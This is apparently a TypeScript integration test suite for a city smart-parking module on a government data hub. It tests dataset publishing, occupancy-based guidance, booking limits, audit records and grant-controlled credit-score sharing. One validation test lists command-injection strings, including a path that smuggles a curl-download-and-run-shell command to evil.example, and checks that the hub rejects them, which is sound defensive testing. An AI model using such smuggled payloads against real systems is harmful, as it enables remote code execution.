// Smart parking as a connected system of the hub, on both Stores: its lots, occupancy history and sessions are
// hub datasets; guidance ranks lots with the occupancy model learnt from that history; per-driver booking limits
// hold under concurrency; parking actions are audited; credit scores come from a hub dataset under a grant.
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { STORE_BACKENDS, as, signIn, testApp, tokenFor } from '../helpers.ts';

const DAY = 86400_000;
const TARIFF = [{ from: '00:00', to: '24:00', fenPerHour: 600 }];
const CHEAP = [{ from: '00:00', to: '24:00', fenPerHour: 300 }];
const DEST = { lon: 118.08, lat: 24.48 };

/** An ISO time in Beijing, `days` days after today at hh:mm. */
function bj(days: number, hhmm: string): string {
  const day = new Date(Date.now() + 8 * 3600_000 + days * DAY).toISOString().slice(0, 10);
  return `${day}T${hhmm}:00+08:00`;
}

describe.each(STORE_BACKENDS)('parking on the hub on $name', ({ databaseUrl }) => {
  let base: FastifyInstance;
  let close: () => Promise<void>;
  let admin: FastifyInstance;
  let steward: FastifyInstance;
  let driver: FastifyInstance;
  let parkSystem: FastifyInstance;
  let creditSteward: FastifyInstance;

  beforeAll(async () => {
    const t = await testApp({ demo: 'none', databaseUrl });
    base = t.app;
    close = t.close;
    const { orgs } = base.platform;
    for (const [code, name] of [['DSJJ', '大数据管理局'], ['JTJ', '交通运输局'], ['FGW', '发展和改革委员会']]) {
      await orgs.createOrganisation({ code, name, nameEn: code, kind: 'department', adcode: null });
    }
    await orgs.createSystem({ code: 'JTJ-PARK', orgCode: 'JTJ', name: '智慧停车平台', nameEn: 'Smart parking', cycle: 'realtime' });
    await orgs.createSystem({ code: 'FGW-CREDIT', orgCode: 'FGW', name: '公共信用信息平台', nameEn: 'Public credit platform', cycle: 'daily' });
    admin = as(base, { cookie: (await signIn(base, 'DSJJ', 'platform_admin')).cookie });
    steward = as(base, { cookie: (await signIn(base, 'JTJ', 'data_steward')).cookie });
    driver = as(base, { cookie: (await signIn(base, 'JTJ', 'analyst')).cookie });
    creditSteward = as(base, { cookie: (await signIn(base, 'FGW', 'data_steward')).cookie });
    parkSystem = as(base, { authorization: `Bearer ${await tokenFor(base, 'JTJ-PARK', ['ingest'])}` });
  }, 60_000);
  afterAll(async () => close());

  const newLot = async (id: string, extra: Record<string, unknown> = {}) => {
    const r = await steward.inject({
      method: 'POST',
      url: '/api/v1/parking/lots',
      payload: { id, name: `停车场${id}`, district: '350203', kind: 'garage', operator: '市政停车', lon: DEST.lon, lat: DEST.lat, capacity: { standard: 40 }, reservablePercent: 50, tariff: TARIFF, systemCode: 'JTJ-PARK', ...extra },
    });
    expect(r.statusCode, r.body).toBe(201);
  };
  const push = (id: string, standard: number) => parkSystem.inject({ method: 'POST', url: `/api/v1/parking/lots/${id}/occupancy`, payload: { counts: { standard } } });
  const records = async (code: string, filter: string) =>
    (await base.inject({ url: `/api/v1/datasets/${code}/records?filter=${encodeURIComponent(filter)}&limit=1000` })).json();

  it('publishes lots, occupancy snapshots and sessions as hub datasets, catalogued and opened by the same rules', async () => {
    await newLot('hub-a');
    expect((await push('hub-a', 12)).statusCode).toBe(200);
    const { parking, parkingHub } = base.platform;
    expect(await parking.snapshot()).toBe(1);
    await parkingHub.flush();
    const ds = (await base.inject({ url: '/api/v1/parking/datasets' })).json();
    expect(ds).toMatchObject({ lots: expect.any(String), occupancy: expect.any(String), sessions: expect.any(String), status: { pending: { lots: 0, occupancy: 0 } } });
    // The lots and occupancy datasets are open: anyone reads them through the hub's query API.
    const lots = await records(ds.lots, 'lot_id = "hub-a"');
    expect(lots.items).toHaveLength(1);
    expect(lots.items[0]).toMatchObject({ lot_id: 'hub-a', district: '350203', capacity: 40, cap_standard: 40, system_code: 'JTJ-PARK' });
    const occ = await records(ds.occupancy, 'lot_id = "hub-a"');
    expect(occ.items).toHaveLength(1);
    expect(occ.items[0]).toMatchObject({ lot_id: 'hub-a', space_type: 'standard', capacity: 40, occupied: 12, reserved: 0 });
    const meta = (await steward.inject({ url: `/api/v1/datasets/${ds.occupancy}` })).json();
    expect(meta).toMatchObject({ orgCode: 'JTJ', systemCode: 'JTJ-PARK', openType: 'open', validRecords: 1 });
    // The live feed is the lots dataset's live API: a CKAN resource and a DCAT distribution in the open-data portal.
    const pkg = (await base.inject({ url: `/api/3/action/package_show?id=${ds.lots}` })).json().result as { resources: { format: string; url: string; mimetype: string }[] };
    const live = pkg.resources.find((r) => r.format === 'GeoJSON');
    expect(live).toMatchObject({ mimetype: 'application/geo+json', url: expect.stringMatching(/\/api\/v1\/parking\/lots\.geojson$/) });
    expect((await base.inject({ url: new URL(live!.url).pathname })).json()).toMatchObject({ type: 'FeatureCollection' });
    const ttl = (await base.inject({ url: `/dataset/${ds.lots}.ttl` })).body;
    expect(ttl).toContain('/api/v1/parking/lots.geojson>');
    expect(ttl).toContain('application/geo+json');
    const found = (await base.inject({ url: '/api/3/action/package_search?fq=res_format:GeoJSON' })).json().result as { results: { name: string }[] };
    expect(found.results.length).toBe(1);
    // A live API's path is shown in curl commands people paste into a shell: nothing but a plain path is accepted.
    const svc = (path: string) => ({ services: [{ id: 'x', name: 'x', nameEn: '', path, format: 'JSON', mediaType: 'application/json' }] });
    for (const path of ["/api/v1/x';curl$IFS-so$IFS/tmp/a$IFS'http://evil.example/p';sh$IFS/tmp/a;'", '/api//evil.example/x', 'https://evil.example/api/x', '/api/v1/x y', '/api/v1/$(id)']) {
      const r = await steward.inject({ method: 'PUT', url: `/api/v1/datasets/${ds.lots}/services`, payload: svc(path) });
      expect([r.statusCode, r.json().error.code], path).toEqual([400, 'VALIDATION_FAILED']);
    }
    expect((await steward.inject({ method: 'PUT', url: `/api/v1/datasets/${ds.lots}/services`, payload: svc('/api/v1/parking/lots.geojson?district=350203') })).statusCode).toBe(200);
    // A reservation becomes a session record; sessions carry plates and are not open.
    const held = await driver.inject({ method: 'POST', url: '/api/v1/parking/reservations', payload: { lotId: 'hub-a', spaceType: 'standard', start: bj(1, '10:00'), end: bj(1, '11:00'), plate: '闽D88888' } });
    expect(held.statusCode, held.body).toBe(201);
    await parkingHub.flush();
    expect((await base.inject({ url: `/api/v1/datasets/${ds.sessions}/records` })).statusCode).toBeGreaterThanOrEqual(401);
    const sessions = (await steward.inject({ url: `/api/v1/datasets/${ds.sessions}/records?filter=${encodeURIComponent(`session_id = "${held.json().id}"`)}` })).json();
    expect(sessions.items).toEqual([expect.objectContaining({ kind: 'reservation', lot_id: 'hub-a', plate: '闽D88888', status: 'held', amount_fen: 600 })]);
    // A silent lot is not snapshotted as zero: it is unknown, so it is left out of the history.
    // (Registered with a single opening period: a one-element list must not be taken for something else.)
    await newLot('hub-silent', { openingHours: [{ days: [1, 2, 3, 4, 5, 6, 7], from: '06:00', to: '23:00' }] });
    expect((await base.inject({ url: '/api/v1/parking/lots/hub-silent' })).json().openingHours).toEqual([{ days: [1, 2, 3, 4, 5, 6, 7], from: '06:00', to: '23:00' }]);
    expect(await parking.snapshot()).toBe(1);
  });

  it('ranks guidance by the occupancy model learnt from the hub history: a lot that is always full at that hour loses to a free one further away', async () => {
    // Two lots: "busy" next to the destination and full on working days 09:00–18:00; "calm" 500 m away and mostly empty.
    await newLot('busy', { lon: DEST.lon + 0.001, lat: DEST.lat });
    await newLot('calm', { lon: DEST.lon + 0.005, lat: DEST.lat, tariff: CHEAP });
    const ds = (await base.inject({ url: '/api/v1/parking/datasets' })).json();
    const calendar = base.platform.sharing.calendar;
    const lines: string[] = [];
    const dayStart = Math.floor((Date.now() + 8 * 3600_000) / DAY) * DAY - 8 * 3600_000; // today 00:00 in Beijing
    for (let d = 21; d >= 1; d--) {
      for (let m = 0; m < 24 * 60; m += 15) {
        const at = dayStart - d * DAY + m * 60_000;
        const work = calendar.isWorkingDay(new Date(at + 8 * 3600_000).toISOString().slice(0, 10));
        const busy = work && m >= 9 * 60 && m < 18 * 60 ? 40 : 10;
        lines.push(JSON.stringify({ lot_id: 'busy', observed_at: new Date(at).toISOString(), space_type: 'standard', capacity: 40, occupied: busy }));
        lines.push(JSON.stringify({ lot_id: 'calm', observed_at: new Date(at).toISOString(), space_type: 'standard', capacity: 40, occupied: 5 + (m % 3) }));
      }
    }
    // The history arrives as any operator would push it: NDJSON through the hub's ingest API with the system's token.
    const r = await parkSystem.inject({ method: 'POST', url: `/api/v1/datasets/${ds.occupancy}/records`, headers: { 'content-type': 'application/x-ndjson', 'idempotency-key': 'history-1' }, payload: lines.join('\n') });
    expect(r.statusCode, r.body).toBe(200);
    expect(r.json()).toMatchObject({ valid: lines.length, invalid: 0 });
    expect(await base.platform.parking.learn()).toBeGreaterThanOrEqual(lines.length);

    // Next working day at 10:00; right now the nearby lot is full and the other nearly empty.
    let d = 1;
    while (!calendar.isWorkingDay(bj(d, '10:00').slice(0, 10))) d++;
    expect((await push('busy', 40)).statusCode).toBe(200);
    expect((await push('calm', 5)).statusCode).toBe(200);
    const g = await base.inject({ url: `/api/v1/parking/guidance?lon=${DEST.lon}&lat=${DEST.lat}&arrive=${encodeURIComponent(bj(d, '10:00'))}&stayMinutes=120&spaceType=standard&maxWalk=1500` });
    expect(g.statusCode, g.body).toBe(200);
    const body = g.json();
    const busy = body.results.find((x: { lotId: string }) => x.lotId === 'busy');
    const calm = body.results.find((x: { lotId: string }) => x.lotId === 'calm');
    expect(busy.walkM).toBeLessThan(calm.walkM);
    expect(busy.pFree).toBeLessThan(0.2);
    expect(calm.pFree).toBeGreaterThan(0.9);
    expect(calm.predictedFree).toBeGreaterThan(25);
    expect(calm.priceFen).toBe(600);
    expect(body.results.findIndex((x: { lotId: string }) => x.lotId === 'calm')).toBeLessThan(body.results.findIndex((x: { lotId: string }) => x.lotId === 'busy'));
    // At night on the same day the nearby lot is free and wins on walking distance.
    const night = (await base.inject({ url: `/api/v1/parking/guidance?lon=${DEST.lon}&lat=${DEST.lat}&arrive=${encodeURIComponent(bj(d, '21:00'))}&maxWalk=1500` })).json();
    expect(night.results.find((x: { lotId: string }) => x.lotId === 'busy').pFree).toBeGreaterThan(0.9);

    // The lot's history and forecast for its chart.
    const h = (await base.inject({ url: '/api/v1/parking/lots/busy/history?hours=48' })).json();
    expect(h.points.length).toBeGreaterThan(100);
    expect(h.points.every((p: { occupied: number; free: number }) => p.occupied + p.free === 40)).toBe(true);
    expect(h.forecast.length).toBeGreaterThan(20);

    // Bad input gets a clear 400.
    for (const q of ['lon=200&lat=24', 'lon=118&lat=24&spaceType=boat', 'lon=118&lat=24&arrive=tomorrow', 'lon=118&lat=24&maxWalk=1']) {
      const bad = await base.inject({ url: `/api/v1/parking/guidance?${q}` });
      expect(bad.statusCode, q).toBe(400);
    }
  });

  it("limits a driver's active reservations, decided by the database under concurrency", async () => {
    await newLot('limits', { capacity: { standard: 200 } });
    const attempts = await Promise.all(Array.from({ length: 12 }, (_, i) =>
      driver.inject({ method: 'POST', url: '/api/v1/parking/reservations', payload: { lotId: 'limits', spaceType: 'standard', start: bj(3, `${String(8 + (i % 8)).padStart(2, '0')}:00`), end: bj(3, `${String(9 + (i % 8)).padStart(2, '0')}:00`) } })));
    // The driver already holds one reservation from the first test: the limit of 3 leaves two.
    const won = attempts.filter((a) => a.statusCode === 201);
    expect(won).toHaveLength(2);
    expect(attempts.filter((a) => a.statusCode !== 201).map((a) => a.json().error.code)).toEqual(Array(10).fill('BOOKING_LIMIT'));
    expect((await driver.inject({ method: 'POST', url: `/api/v1/parking/reservations/${won[0].json().id}/cancel` })).json().status).toBe('cancelled');
    const again = await driver.inject({ method: 'POST', url: '/api/v1/parking/reservations', payload: { lotId: 'limits', spaceType: 'standard', start: bj(4, '08:00'), end: bj(4, '09:00') } });
    expect(again.statusCode, again.body).toBe(201);
    const mine = (await driver.inject({ url: '/api/v1/parking/my/reservations' })).json();
    expect(mine.items.filter((r: { status: string }) => ['held', 'confirmed'].includes(r.status))).toHaveLength(3);
    expect(mine.items[0]).toMatchObject({ lotId: 'limits', lotName: '停车场limits' });
    expect((await base.inject({ url: '/api/v1/parking/my/reservations' })).statusCode).toBe(401);
  });

  it('audits parking actions: pushes, holds, refusals', async () => {
    const rows = await base.platform.store.db.selectFrom('audit_entries').select(['action', 'result', 'actor_id']).where('action', 'like', 'parking.%').execute();
    const by = (a: string, r: string) => rows.filter((x) => x.action === a && x.result === r).length;
    expect(by('parking.lot.create', 'allowed')).toBeGreaterThanOrEqual(5);
    expect(by('parking.occupancy', 'allowed')).toBeGreaterThanOrEqual(3);
    expect(by('parking.reservation.hold', 'allowed')).toBeGreaterThanOrEqual(3);
    expect(by('parking.reservation.hold', 'error')).toBeGreaterThanOrEqual(10);
    expect(by('parking.reservation.cancel', 'allowed')).toBe(1);
    // A push by someone other than the lot's system is refused and recorded as denied.
    expect((await driver.inject({ method: 'POST', url: '/api/v1/parking/lots/limits/occupancy', payload: { counts: { standard: 1 } } })).statusCode).toBe(403);
    const denied = await base.platform.store.db.selectFrom('audit_entries').select('result').where('action', '=', 'parking.occupancy').where('result', '=', 'denied').execute();
    expect(denied.length).toBe(1);
    // Off-peak passes and pay-later sessions are audited the same way (see the credit test below for check-ins).
  });

  it('loads credit scores from a hub dataset only under a grant to the parking system', async () => {
    const created = await creditSteward.inject({
      method: 'POST',
      url: '/api/v1/datasets',
      payload: {
        name: '白鹭分信用评分（车辆）', summary: '按车牌关联的个人信用分（白鹭分）', category: '02', orgCode: 'FGW', systemCode: 'FGW-CREDIT', updateCycle: 'daily',
        shareType: 'conditional', openType: 'closed',
        fields: [
          { name: 'plate', label: '车牌号', type: 'string', required: true, primaryKey: true, sensitivity: 'sensitive' },
          { name: 'score', label: '白鹭分', type: 'integer', required: true, min: 0, max: 1000, sensitivity: 'internal' },
          { name: 'id_number', label: '身份证号', type: 'string', sensitivity: 'secret' },
        ],
      },
    });
    expect(created.statusCode, created.body).toBe(201);
    const code = created.json().code;
    const credit = as(base, { authorization: `Bearer ${await tokenFor(base, 'FGW-CREDIT', ['ingest'])}` });
    const body = ['{"plate":"闽D10001","score":720}', '{"plate":"闽D10002","score":600}', '{"plate":"闽D10003","score":880}'].join('\n');
    expect((await credit.inject({ method: 'POST', url: `/api/v1/datasets/${code}/records`, headers: { 'content-type': 'application/x-ndjson' }, payload: body })).statusCode).toBe(200);

    const sync = () => steward.inject({ method: 'POST', url: '/api/v1/parking/credit/scores/sync', payload: { dataset: code } });
    expect((await sync()).json().error.code).toBe('NO_GRANT');
    expect((await driver.inject({ method: 'POST', url: '/api/v1/parking/credit/scores/sync', payload: { dataset: code } })).statusCode).toBe(403);
    // The transport department asks for plate and score for the parking system; the platform and the provider approve.
    const req = await steward.inject({ method: 'POST', url: '/api/v1/share-requests', payload: { dataset: code, consumerSystem: 'JTJ-PARK', purpose: '信用停车准入', fields: ['plate', 'score'], durationDays: 365 } });
    expect(req.statusCode, req.body).toBe(201);
    expect((await admin.inject({ method: 'POST', url: `/api/v1/share-requests/${req.json().id}/check`, payload: { approve: true } })).statusCode).toBe(200);
    expect((await creditSteward.inject({ method: 'POST', url: `/api/v1/share-requests/${req.json().id}/decide`, payload: { approve: true } })).statusCode).toBe(200);
    // By default a sensitive plate is shared partly masked (闽D1****1): no use for matching, and the sync says so.
    expect((await sync()).json().error).toMatchObject({ code: 'CREDIT_SOURCE', message: expect.stringMatching(/plate as partial/) });
    const req2 = await steward.inject({ method: 'POST', url: '/api/v1/share-requests', payload: { dataset: code, consumerSystem: 'JTJ-PARK', purpose: '信用停车准入（车牌明文比对）', fields: ['plate', 'score'], durationDays: 365 } });
    expect((await admin.inject({ method: 'POST', url: `/api/v1/share-requests/${req2.json().id}/check`, payload: { approve: true } })).statusCode).toBe(200);
    expect((await creditSteward.inject({ method: 'POST', url: `/api/v1/share-requests/${req2.json().id}/decide`, payload: { approve: true, masks: { plate: 'clear' } } })).statusCode).toBe(200);
    const ok = (await sync()).json();
    expect(ok).toMatchObject({ dataset: code, loaded: 3, skipped: 0 });
    // The read went through the access decision as the parking system, under its grant, and was audited.
    const audited = await base.platform.store.db.selectFrom('audit_entries').select(['actor_id', 'grant_id', 'result']).where('dataset_code', '=', code).where('action', '=', 'records.read').execute();
    expect(audited.some((a) => a.result === 'allowed' && a.grant_id !== null)).toBe(true);
    await newLot('credit-lot');
    const lotSystem = parkSystem;
    const inRes = await lotSystem.inject({ method: 'POST', url: '/api/v1/parking/lots/credit-lot/credit-check-in', payload: { plate: '闽D10001' } });
    expect(inRes.statusCode, inRes.body).toBe(201);
    expect((await lotSystem.inject({ method: 'POST', url: '/api/v1/parking/lots/credit-lot/credit-check-in', payload: { plate: '闽D10002' } })).json().error.code).toBe('CREDIT_REFUSED');
    // The pay-later session is a record of the hub's sessions dataset too.
    expect((await lotSystem.inject({ method: 'POST', url: '/api/v1/parking/lots/credit-lot/credit-check-out', payload: { plate: '闽D10001' } })).statusCode).toBe(200);
    await base.platform.parkingHub.flush();
    const ds = (await base.inject({ url: '/api/v1/parking/datasets' })).json();
    const sessions = (await steward.inject({ url: `/api/v1/datasets/${ds.sessions}/records?filter=${encodeURIComponent('kind = "credit"')}` })).json();
    expect(sessions.items).toEqual([expect.objectContaining({ session_id: inRes.json().sessionId, plate: '闽D10001', lot_id: 'credit-lot', status: 'completed', amount_fen: expect.any(Number) })]);
    const trail = await base.platform.store.db.selectFrom('audit_entries').select(['action', 'result']).where('action', 'in', ['parking.credit.check-in', 'parking.credit.sync']).execute();
    expect(trail.filter((x) => x.action === 'parking.credit.check-in').map((x) => x.result).sort()).toEqual(['allowed', 'error']);
    expect(trail.filter((x) => x.action === 'parking.credit.sync' && x.result === 'allowed')).toHaveLength(1);
  });

  it('keeps a failed push to retry under the same key: nothing lost, nothing applied twice', async () => {
    const { parkingHub, ingest } = base.platform;
    const ds = (await base.inject({ url: '/api/v1/parking/datasets' })).json();
    const real = ingest.ingest.bind(ingest);
    let fails = 1;
    // The hub commits the batch, then something after the commit fails: the retry must be replayed, not added again.
    ingest.ingest = async (req) => {
      const r = await real(req);
      if (fails-- > 0) throw new Error('simulated failure after the commit');
      return r;
    };
    try {
      const at = new Date(Math.floor(Date.now() / 900_000) * 900_000 - 86400_000).toISOString();
      parkingHub.occupancy([{ lot_id: 'retry-lot', observed_at: at, space_type: 'standard', capacity: 10, occupied: 4, reserved: 0 }]);
      for (let i = 0; i < 3; i++) parkingHub.session({ session_id: `retry-s${i}`, kind: 'reservation', lot_id: 'retry-lot', space_type: 'standard', plate: null, starts_at: at, ends_at: null, status: 'held', amount_fen: 0 });
      await parkingHub.flush();
      expect(parkingHub.status()).toMatchObject({ failing: true });
      expect(parkingHub.status().pending.occupancy + parkingHub.status().pending.sessions).toBeGreaterThan(0);
      await parkingHub.flush();
      expect(parkingHub.status()).toMatchObject({ failing: false, pending: { lots: 0, occupancy: 0, sessions: 0 } });
    } finally {
      ingest.ingest = real;
    }
    const occ = await records(ds.occupancy, 'lot_id = "retry-lot"');
    expect(occ.items).toHaveLength(1);
    const sessions = (await steward.inject({ url: `/api/v1/datasets/${ds.sessions}/records?filter=${encodeURIComponent('lot_id = "retry-lot"')}` })).json();
    expect(sessions.items.map((x: { session_id: string }) => x.session_id).sort()).toEqual(['retry-s0', 'retry-s1', 'retry-s2']);
  });

  it('refuses what makes no sense and closes stays never checked out', async () => {
    // Events for a space type the lot does not have; a bounding box off the globe.
    await newLot('sense', { capacity: { ev: 4 }, openingHours: [{ days: [1, 2, 3, 4, 5, 6, 7], from: '00:00', to: '24:00' }] });
    expect((await parkSystem.inject({ method: 'POST', url: '/api/v1/parking/lots/sense/occupancy', payload: { events: [{ kind: 'entry' }] } })).json().error.code).toBe('VALIDATION_FAILED');
    expect((await parkSystem.inject({ method: 'POST', url: '/api/v1/parking/lots/sense/occupancy', payload: { events: [{ kind: 'entry', spaceType: 'ev' }] } })).statusCode).toBe(200);
    for (const bbox of ['-1e303,-90,1e303,90', '118,24,200,25', '118,24,119']) {
      expect((await base.inject({ url: `/api/v1/parking/lots.geojson?bbox=${bbox}` })).statusCode, bbox).toBe(400);
    }
    // A lot open around the clock is offered for a stay across midnight.
    const g = (await base.inject({ url: `/api/v1/parking/guidance?lon=${DEST.lon}&lat=${DEST.lat}&arrive=${encodeURIComponent(bj(1, '22:00'))}&stayMinutes=180&spaceType=ev&maxWalk=1500` })).json();
    expect(g.results.map((r: { lotId: string }) => r.lotId)).toContain('sense');

    // A stay checked in whose exit never came: closed by the sweep after the grace period, freeing the driver's limit.
    const other = as(base, { cookie: (await signIn(base, 'JTJ', 'org_admin')).cookie });
    const now = Date.now();
    const held = await other.inject({ method: 'POST', url: '/api/v1/parking/reservations', payload: { lotId: 'sense', spaceType: 'ev', start: new Date(now).toISOString(), end: new Date(now + 3600_000).toISOString() } });
    expect(held.statusCode, held.body).toBe(201);
    const id = held.json().id;
    expect((await other.inject({ method: 'POST', url: `/api/v1/parking/reservations/${id}/confirm` })).json().status).toBe('confirmed');
    expect((await parkSystem.inject({ method: 'POST', url: `/api/v1/parking/reservations/${id}/check-in` })).json().status).toBe('checked_in');
    const { driver } = await base.platform.store.db.selectFrom('parking_reservations').select('driver').where('id', '=', id).executeTakeFirstOrThrow();
    const active = async () => Number((await base.platform.store.db.selectFrom('parking_driver_counters').select('active').where('driver', '=', driver).executeTakeFirstOrThrow()).active);
    expect(await active()).toBe(1);
    expect((await base.platform.parking.sweep(now + 30 * 60_000)).overdue).toBe(0);
    expect((await base.platform.parking.sweep(now + 3 * 3600_000)).overdue).toBe(1);
    expect((await other.inject({ url: `/api/v1/parking/reservations/${id}` })).json()).toMatchObject({ status: 'completed' });
    expect(await active()).toBe(0);
  });
});
